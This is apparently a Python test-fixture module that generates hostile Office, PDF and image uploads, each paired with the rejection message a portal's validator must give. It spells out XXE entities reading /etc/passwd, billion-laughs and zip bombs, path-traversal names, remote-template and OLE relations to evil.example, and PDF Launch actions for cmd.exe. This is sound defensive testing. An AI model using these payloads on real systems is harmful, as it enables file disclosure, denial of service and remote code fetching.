"""Some three hundred files that somebody made to do harm, each with the sentence that it must meet."""

import io
import random
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial

import pikepdf
from PIL import Image

from nara_renkei.core.packages import BROKEN, ENCRYPTED, MACRO, REMOTE, TEMPLATE, TOO_MUCH_INSIDE, WRONG_CONTENT
from nara_renkei.core.private_files import EMPTY, WRONG_KIND

from .office import JPG, MAIN, PDF, PNG, SMALL, TYPES, _chunk, office

KEPT = ""  # harmless here: it is never opened by the portal, or only by the renderer
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 8 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00" + b"\x00" * 1000
RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
RELATION = '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}" TargetMode="External"/>'
BOMB = b"0" * 5_000_000
LAUGHS = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
XXE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'


@dataclass(frozen=True)
class HostileFile:
    label: str
    name: str
    make: Callable[[], bytes]
    sentence: str


def noise(length: int) -> str:
    """Return text that does not pack well."""
    return random.Random(1).randbytes(length // 2).hex()


def members(parts: list[tuple[str | zipfile.ZipInfo, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as package:
        for name, data in parts:
            package.writestr(name, data)
    return out.getvalue()


def with_types(kind: str, types: bytes, *more: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    return members([("[Content_Types].xml", types), (MAIN[kind], b"<x/>"), *more])


def patched(data: bytes, mark: bytes, offset: int, new: bytes) -> bytes:
    """Return the bytes with some of them changed behind the last mark."""
    start = data.rfind(mark) + offset
    return data[:start] + new + data[start + len(new) :]


def symlink(kind: str) -> bytes:
    link = zipfile.ZipInfo("word/link")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    return with_types(kind, TYPES.format("").encode(), (link, b"/etc/passwd"))


def overlapping(kind: str) -> bytes:
    """Return a package whose list names one member twice under two names."""
    data = office(kind, {"word/twin1.xml": b"twins"})
    end = data.rfind(b"PK\x05\x06")
    entry = data.rfind(b"PK\x01\x02")
    twin = data[entry:end].replace(b"twin1", b"twin2")
    count, _, size = struct.unpack("<HHL", data[end + 8 : end + 16])
    tail = data[end : end + 8] + struct.pack("<HHL", count + 1, count + 1, size + len(twin)) + data[end + 16 :]
    return data[:end] + twin + tail


def call(kind: str, relation: str, target: str, encoding: str = "utf-8") -> bytes:
    return office(
        kind,
        {
            f"{MAIN[kind].split('/')[0]}/_rels/a.xml.rels": RELS.format(RELATION.format(relation, target)).encode(
                encoding
            )
        },
    )


def _package_attacks(kind: str) -> Iterator[tuple[str, Callable[[], bytes], str]]:
    folder = MAIN[kind].split("/")[0]
    extra = lambda name, data=b"x", **more: partial(office, kind, {name: data}, **more)  # noqa: E731
    main = partial(office, kind)
    wrong = WRONG_CONTENT.format(extension=kind)
    for name in (
        "../a",
        "..\\a",
        "a/../../b",
        "/etc/a",
        "\\a",
        "a\\..\\b",
        MAIN[kind].upper(),
        MAIN[kind].replace("/", "\\"),
    ):
        yield f"member {name}", extra(name), BROKEN
    for name in (
        f"{folder}/vbaProject.bin",
        f"{folder}/VBAPROJECT.BIN",
        "vbaProject.bin",
        "xl/macrosheets/a.xml",
        "x\\MacroSheets\\a",
    ):
        yield f"macro {name}", extra(name), MACRO
    for word in (
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        "application/vnd.ms-office.vbaProject",
        "x/MACRO&#69;NABLED",
    ):
        types = TYPES.format(f'<Override PartName="/{folder}/a.bin" ContentType="{word}"/>')
        yield f"type {word}", partial(office, kind, None, types[types.index("<Override") : -8]), MACRO
        yield (
            f"type {word} in UTF-16",
            partial(with_types, kind, types.replace('<?xml version="1.0"?>', "").encode("utf-16")),
            MACRO,
        )
        default = TYPES.format(f'<Default Extension="bin" ContentType="{word}"/>').encode()
        yield f"default {word}", partial(with_types, kind, default), MACRO
    rel = RELS.format(
        '<Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.bin"/>'
    )
    yield "a relation to a macro under another name", extra(f"{folder}/_rels/a.rels", rel.encode()), MACRO
    for relation, said in (
        ("attachedTemplate", TEMPLATE),
        ("oleObject", REMOTE),
        ("frame", REMOTE),
        ("subDocument", REMOTE),
    ):
        yield f"{relation} of the net", partial(call, kind, relation, "https://evil.example/a.dotm"), said
    for target in ("HTTP://evil.example/", "mhtml:http://evil.example/!x", "&#104;ttps://evil.example/"):
        yield f"call {target}", partial(call, kind, "attachedTemplate", target), TEMPLATE
    yield "call in UTF-16", partial(call, kind, "oleObject", "http://evil.example/", "utf-16"), REMOTE
    for label, xml in (
        ("entities", LAUGHS),
        ("a file", XXE),
        ("late", f"<!--{noise(70_000)}-->{XXE}"),
        ("edge", f"<!--{noise(65_526)}-->{XXE}"),
    ):
        for encoding in ("utf-8", "utf-16"):
            yield f"DTD {label} {encoding}", extra(f"{folder}/a.xml", xml.encode(encoding) + b" " * 3_000), BROKEN
    yield "DTD in the types", partial(with_types, kind, (LAUGHS + "<Types/>").encode()), BROKEN
    yield "DTD in the relations", extra("_rels/a.rels", XXE.encode()), BROKEN
    yield "types that are no XML", partial(with_types, kind, b"<Types"), BROKEN
    yield "types of nothing", partial(with_types, kind, b""), BROKEN
    yield "relations that are no XML", extra("_rels/a.rels", b"\x00\x01"), BROKEN
    for label, method in (("bzip2", zipfile.ZIP_BZIP2), ("lzma", zipfile.ZIP_LZMA)):
        yield label, partial(office, kind, method=method), BROKEN
    for cut in (-1, -21, -23, -60, 200, 60):
        yield f"cut at {cut}", partial(lambda cut: main()[:cut], cut), BROKEN
    yield "overlapping", partial(overlapping, kind), BROKEN
    yield "wrong offset", lambda: patched(main(), b"PK\x01\x02", 42, b"\x99\x99\x00\x00"), BROKEN
    yield "wrong checksum", lambda: patched(main(), b"PK\x01\x02", 16, b"\x00\x00\x00\x01"), BROKEN
    yield "another name at the member", lambda: main().replace(MAIN[kind].encode(), b"z" * len(MAIN[kind]), 1), BROKEN
    yield "bytes that do not unpack", lambda: patched(main(), b"PK\x01\x02", -12, b"\xff" * 12), BROKEN
    yield "a bomb", extra("a.xml", BOMB), TOO_MUCH_INSIDE
    yield "two bombs", partial(office, kind, {"a.xml": BOMB, "b.bin": BOMB}), TOO_MUCH_INSIDE
    yield "a bomb among the relations", extra("_rels/a.rels", b" " * 4_000_000), TOO_MUCH_INSIDE
    yield "1,998 more", lambda: office(kind, {f"{n}.xml": b"" for n in range(1_998)}), TOO_MUCH_INSIDE
    yield "a bomb in 500 pieces", lambda: office(kind, {f"{n}.bin": b"0" * 60_000 for n in range(500)}), TOO_MUCH_INSIDE
    yield "a count of 65,535", lambda: patched(main(), b"PK\x05\x06", 10, b"\xff\xff"), TOO_MUCH_INSIDE
    yield "a list of 4 GB", lambda: patched(main(), b"PK\x05\x06", 12, b"\xff\xff\xff\xff"), TOO_MUCH_INSIDE
    for flag in (b"\x01", b"\x41", b"\x09"):
        yield f"encrypted {flag!r}", partial(lambda flag: patched(main(), b"PK\x01\x02", 8, flag), flag), ENCRYPTED
    yield "a password", lambda: OLE, ENCRYPTED
    yield "an old document", lambda: OLE + "WordDocument".encode("utf-16-le") + b"\x00" * 3_000, ENCRYPTED
    others = [SMALL[one] for one in sorted(MAIN) if one != kind]
    for number, data in enumerate(
        (*others, PDF, JPG, PNG, b"<html>", b"MZ\x90\x00", b"{\\rtf1", b"\x1f\x8b\x08", b"PK\x05\x06" + b"\x00" * 18)
    ):
        yield f"something else {number}", partial(bytes, data), wrong
    for label, head in (("MZ", b"MZ"), ("GIFAR", b"GIF89a"), ("PDF", PDF), ("JPG", JPG)):
        yield f"{label} and zip", partial(lambda head: head + main(), head), wrong
    yield "no types", lambda: members([(MAIN[kind], b"<x/>")]), wrong
    yield "no main part", lambda: members([("[Content_Types].xml", b"<Types/>")]), wrong
    bomb = members([("a", BOMB)])
    yield "a bomb in a zip in it", lambda: office(kind, {"a.zip": members([("b.zip", bomb)], zipfile.ZIP_STORED)}), KEPT
    yield "a symbolic link", partial(symlink, kind), KEPT
    for name in (
        f"{folder}/embeddings/oleObject1.bin",
        f"{folder}/a.exe",
        "CON",
        "a" * 60_000,
        "<script>.js",
        "名\u202e前",
    ):
        yield f"member {name[:20]}", extra(name, OLE), KEPT
    for relation, target in (
        ("hyperlink", "https://a.example/"),
        ("hyperlink", "javascript:x()"),
        ("attachedTemplate", "file:///C:/a.dotx"),
    ):
        yield f"{relation} {target}", partial(call, kind, relation, target), KEPT
    yield "data behind the end", lambda: main() + b"<script>x()</script>" * 100, KEPT


def _pdf(change: Callable[[pikepdf.Pdf], None], **how: object) -> bytes:
    made, out = pikepdf.new(), io.BytesIO()
    made.add_blank_page(page_size=(200, 200))
    change(made)
    made.save(out, **how)
    return out.getvalue()


def act(made: pikepdf.Pdf, **action: object) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(**action)


def xfa(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(XFA=made.make_stream(XXE.encode()), Fields=[])


def attach(made: pikepdf.Pdf) -> None:
    made.attachments["evil.exe"] = b"MZ"


def size(made: pikepdf.Pdf, *box: float) -> None:
    made.pages[0].MediaBox = pikepdf.Array(box)


def loop(made: pikepdf.Pdf) -> None:
    made.Root.Pages.Kids.append(made.Root.Pages)


def draw_itself(made: pikepdf.Pdf) -> None:
    form = made.make_stream(b"/X Do", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 9, 9])
    form.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=form))
    made.pages[0].Resources = form.Resources
    made.pages[0].Contents = made.make_stream(b"/X Do")


def contents(made: pikepdf.Pdf, data: bytes) -> None:
    made.pages[0].Contents = made.make_stream(data)


def objects(made: pikepdf.Pdf, count: int) -> None:
    made.Root.Many = made.make_indirect(
        pikepdf.Array([made.make_indirect(pikepdf.Dictionary(N=n)) for n in range(count)])
    )


def _pdf_attacks() -> Iterator[tuple[str, Callable[[], bytes], str]]:
    wrong, name = WRONG_CONTENT.format(extension="pdf"), pikepdf.Name
    plain = partial(_pdf, lambda made: None)
    for label, change in {
        "JavaScript": partial(act, S=name.JavaScript, JS="app.alert(1)"),
        "Launch": partial(act, S=name.Launch, F="cmd.exe"),
        "URI": partial(act, S=name.URI, URI="https://evil.example/"),
        "SubmitForm": partial(act, S=name.SubmitForm, F="https://evil.example/"),
        "GoToR": partial(act, S=name.GoToR, F="\\\\evil\\a.pdf"),
        "a file in it": attach,
        "XFA": xfa,
        "a page of a kilometre": lambda made: size(made, 0, 0, 2_834_645, 2_834_645),
        "a page of nothing": lambda made: size(made, 0, 0, 0, 0),
        "a page upside down": lambda made: size(made, 9, 9, -9e30, -9e30),
        "a page like a hair": lambda made: size(made, 0, 0, 14_400, 0.01),
        "pages in a ring": loop,
        "a form in itself": draw_itself,
        "deep nesting": lambda made: contents(made, b"q " * 200_000),
        "brackets": lambda made: contents(made, b"[" * 200_000),
        "dictionaries": lambda made: contents(made, b"BI " + b"<<" * 100_000),
        "10,000 objects": partial(objects, count=10_000),
        "a bomb of nothing": lambda made: contents(made, b" " * 20_000_000),
    }.items():  # fmt: skip
        yield label, partial(_pdf, change), KEPT
    for level in (2, 3, 4, 6):
        how = pikepdf.Encryption(user="a", owner="b", R=level, aes=level >= 4, metadata=level >= 4)
        yield f"a password {level}", partial(_pdf, lambda made: None, encryption=how), KEPT
    for part in (9, 20, 100, 300, -1, -40):
        yield f"cut at {part}", partial(lambda part: plain()[:part], part), KEPT
    for label, tail in {
        "zip": SMALL["docx"],
        "html": b"<script>x()</script>",
        "exe": b"MZ" * 999,
        "again": PDF,
    }.items():
        yield f"{label} behind it", partial(lambda tail: plain() + tail, tail), KEPT
    for head in (b"<html>", b"MZ"):  # the head of a PDF may stand a little later
        yield f"{head!r} before it", partial(lambda head: head + plain(), head), KEPT
    yield "brackets in the trailer", lambda: b"%PDF-1.4\ntrailer<</Root " + b"[" * 100_000 + b">>\n%%EOF", KEPT
    yield (
        "no such object",
        lambda: b"%PDF-1.4\ntrailer<</Root 99 0 R/Size 4294967295>>\nstartxref\n99999999999\n%%EOF",
        KEPT,
    )
    yield (
        "one in another",
        lambda: b"%PDF-1.4\n1 0 obj<</Length 1 0 R>>stream\nendstream endobj trailer<</Root 1 0 R>>%%EOF",
        KEPT,
    )
    for number, data in enumerate(
        (
            SMALL["docx"],
            JPG,
            PNG,
            OLE,
            b"PDF-1.4",
            b"%!PS-Adobe",
            b"\x00" * 99,
            b"<svg/>",
        )
    ):
        yield f"something else {number}", partial(bytes, data), wrong


def _png(width: int, height: int, data: bytes = b"\x00\x00", *more: bytes, depth: int = 8, colour: int = 0) -> bytes:
    head = _chunk(b"IHDR", struct.pack("!LLBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + _chunk(b"IDAT", zlib.compress(data)) + _chunk(b"IEND", b"")


def _jpg(**how: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), "red").save(out, "JPEG", **how)
    return out.getvalue()


def _picture_attacks() -> Iterator[tuple[str, str, Callable[[], bytes], str]]:
    for side in ((65_535, 65_535), (2_147_483_647, 2_147_483_647), (65_535, 1), (0, 0), (1, 0), (20_000, 20_000)):
        yield f"{side[0]} by {side[1]}", "png", partial(_png, *side), KEPT
    text = _chunk(b"zTXt", b"a\x00\x00" + zlib.compress(BOMB))
    animated = _chunk(b"acTL", struct.pack("!LL", 9_999_999, 0))
    for label, more in {
        "a text bomb": text,
        "an animation": animated,
        "no palette": b"",
        "a chunk of 2 GB": b"\x7f\xff\xff\xffIDAT",
        "a profile bomb": _chunk(b"iCCP", b"a\x00\x00" + zlib.compress(BOMB)),
    }.items():
        yield label, "png", partial(_png, 1, 1, b"\x00\x00", more, colour=3 if "palette" in label else 0), KEPT
    for depth, colour in ((3, 0), (16, 3), (8, 7), (255, 255)):
        yield f"depth {depth} of {colour}", "png", partial(_png, 1, 1, depth=depth, colour=colour), KEPT
    yield "too few bytes", "png", partial(_png, 500, 500), KEPT
    yield "a bomb of bytes", "png", partial(_png, 1, 1, BOMB), KEPT
    for cut in (16, 33, 40, -5, -13):
        yield f"cut at {cut}", "png", partial(lambda cut: _png(1, 1)[:cut], cut), KEPT
    for label, exif in {
        "broken": b"Exif\x00\x00MM\x00*\xff\xff\xff\xff",
        "huge": b"Exif\x00\x00II*\x00\x08\x00\x00\x00" + b"\xff" * 60_000,
        "empty": b"Exif\x00\x00",
        "in a ring": b"Exif\x00\x00II*\x00\x08\x00\x00\x00\x00\x00\x08\x00\x00\x00",
        "no orientation": b"Exif\x00\x00II*\x00\x08\x00\x00\x00\x01\x00\x12\x01\x03\x00\x01\x00\x00\x00\x63\x00\x00\x00\x00\x00\x00\x00",
    }.items():
        yield f"{label} EXIF", "jpg", partial(_jpg, exif=exif), KEPT
    for cut in (4, 20, 100, 300, -2):
        yield f"cut at {cut}", "jpg", partial(lambda cut: _jpg()[:cut], cut), KEPT
    for label, tail in {
        "html": b"<script>x()</script>",
        "zip": SMALL["docx"],
        "php": b"<?php x(); ?>",
        "again": JPG,
    }.items():
        yield f"{label} behind it", "jpg", partial(lambda tail: _jpg() + tail, tail), KEPT
        yield f"{label} behind it", "png", partial(lambda tail: PNG + tail, tail), KEPT
    yield "html in a comment", "jpg", partial(_jpg, comment=b"<script>x()</script>"), KEPT
    yield "65,535 by 65,535", "jpg", lambda: patched(_jpg(), b"\xff\xc0", 5, b"\xff\xff\xff\xff"), KEPT
    yield "0 by 0", "jpg", lambda: patched(_jpg(), b"\xff\xc0", 5, b"\x00\x00\x00\x00"), KEPT
    for kind in ("jpg", "png"):
        honest = PNG if kind == "jpg" else JPG
        for number, data in enumerate(
            (
                honest,
                PDF,
                b"<svg onload=x()>",
                b"<html>",
                b"GIF89a",
                b"BM" + b"\x00" * 60,
                b"MZ\x90\x00",
                b"II*\x00",
                OLE,
                b"\x89PNG",
                b"\xff\xd8",
            )
        ):
            if (kind, number) not in {("png", 9), ("jpg", 10)}:
                yield f"something else {number}", kind, partial(bytes, data), WRONG_CONTENT.format(extension=kind)


NO_KIND = ("a.exe", "a.pdf.exe", "a.svg", "a.html", "a", "pdf", "a.pdf.", "a.pdf ", "a\u202efdp.exe", "a.ｐｄｆ", "a.doc", "a.zip", "a.heic", "a.pdf\x00.exe", "CON")  # fmt: skip


def hostile_files() -> list[HostileFile]:
    found = [
        HostileFile(f"{kind}: {label}", f"a.{kind}", make, said)
        for kind in MAIN
        for label, make, said in _package_attacks(kind)
    ]
    found += [HostileFile(f"pdf: {label}", "a.pdf", make, said) for label, make, said in _pdf_attacks()]
    found += [
        HostileFile(f"{kind}: {label}", f"a.{kind}", make, said) for label, kind, make, said in _picture_attacks()
    ]
    found += [HostileFile(f"name: {name!r}", name, partial(bytes, PDF), WRONG_KIND) for name in NO_KIND]
    found += [
        HostileFile(f"name: a.{kind}", f"a.{kind}", partial(bytes, PDF), MACRO) for kind in ("docm", "xlsm", "pptm")
    ]
    return [*found, HostileFile("nothing", "a.pdf", bytes, EMPTY)]
